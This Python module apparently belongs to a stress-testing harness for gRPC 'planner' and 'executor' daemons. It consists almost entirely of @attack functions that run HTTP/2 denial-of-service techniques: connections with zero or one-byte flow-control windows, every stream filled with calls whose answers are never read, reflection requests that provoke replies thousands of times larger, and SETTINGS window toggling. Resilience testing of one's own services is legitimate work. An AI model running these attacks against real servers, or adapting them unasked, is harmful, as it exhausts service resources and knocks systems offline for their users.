# SPDX-License-Identifier: Apache-2.0
"""Clients that ask and do not read the answers."""
import http2
from flood import attack, flood, hold
from daemons import HONEST_CALLS, LONG_PLAN

CONNECTIONS = 20
STREAMS = 256  # that a daemon allows per connection
SMALL_BUFFER = 2048

REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
FILE_OF_SYMBOL = {kind: http2.field(4, f"recurve.{kind}.v1.{kind.capitalize()}Service".encode())
                  for kind in ("planner", "executor")}


def no_window(target):
    """A connection over which no answer may be sent."""
    return http2.open_http2(target, http2.settings(initial_window=0), SMALL_BUFFER)


def one_byte_window(target):
    return http2.open_http2(target, http2.settings(initial_window=1), SMALL_BUFFER)


def large_window(target):
    """A connection over which a daemon may send as much as it wants, and of which the client reads nothing."""
    first = http2.settings(initial_window=http2.LARGEST_WINDOW) + http2.window_update(0, http2.LARGEST_WINDOW - 65535)
    return http2.open_http2(target, first, SMALL_BUFFER)


def all_streams(path, request, streams=STREAMS, end=True):
    return lambda state: b"".join(http2.call(stream, path, request, end) for stream in range(1, 2 * streams, 2))


@attack("planner", "executor")
def unary_without_window(target, until):
    """Unary calls whose answers may not be sent, on all streams."""
    hold(target, until, CONNECTIONS, no_window, all_streams(*HONEST_CALLS[target.kind]))


@attack("planner", "executor")
def unary_window_of_a_byte(target, until):
    """The same, with a window of one byte."""
    hold(target, until, CONNECTIONS, one_byte_window, all_streams(*HONEST_CALLS[target.kind]))


@attack("planner", "executor")
def unary_never_read(target, until):
    """Unary calls without end whose answers are never read from the socket."""
    path, request = HONEST_CALLS[target.kind]

    def produce(state):
        stream, state["stream"] = state["stream"], state["stream"] + 2
        return http2.call(stream, path, request)
    flood(target, until, CONNECTIONS, large_window, produce)


@attack("planner")
def stream_never_read(target, until):
    """Schedules of many actions that are never read."""
    hold(target, until, CONNECTIONS, large_window,
         all_streams("/recurve.planner.v1.ScheduleService/StreamSchedule", http2.field(1, LONG_PLAN)))


@attack("executor")
def watch_never_read(target, until):
    """Events of a job that are never read."""
    hold(target, until, CONNECTIONS, no_window,
         all_streams("/recurve.executor.v1.ExecutorService/WatchJob", http2.field(1, target.job.encode())))


@attack("executor")
def download_never_read(target, until):
    """Downloads of a model that are never read."""
    hold(target, until, CONNECTIONS, large_window,
         all_streams("/recurve.executor.v1.ExecutorService/DownloadModel", http2.field(1, target.job.encode())))


@attack("planner", "executor")
def health_watch(target, until):
    """Watches of health on all streams, that are never read."""
    hold(target, until, CONNECTIONS, no_window, all_streams("/grpc.health.v1.Health/Watch", b""))


@attack("planner", "executor")
def reflection_streams(target, until):
    """Reflection on all streams, with a request each and no end."""
    hold(target, until, CONNECTIONS, no_window,
         all_streams(REFLECTION, FILE_OF_SYMBOL[target.kind], end=False))


@attack("planner", "executor")
def reflection_never_read(target, until):
    """Requests to reflection without end, whose answers, thousands of times larger, are never read."""
    headers = http2.frame(http2.HEADERS, http2.END_HEADERS, 1, http2.request_headers(REFLECTION))
    requests = http2.frame(http2.DATA, 0, 1, http2.message(FILE_OF_SYMBOL[target.kind])) * 100

    def produce(state):
        first, state["stream"] = headers if state["stream"] == 1 else b"", 3
        return first + requests
    flood(target, until, CONNECTIONS, large_window, produce)


@attack("planner", "executor")
def window_games(target, until):
    """Calls under a window that opens by a byte and closes again by SETTINGS."""
    path, request = HONEST_CALLS[target.kind]
    toggles = (http2.settings(initial_window=1) + http2.settings(initial_window=0)) * 50

    def produce(state):
        stream, state["stream"] = state["stream"], state["stream"] + 2
        return http2.call(stream, path, request) + toggles
    flood(target, until, CONNECTIONS, no_window, produce, reads=True)
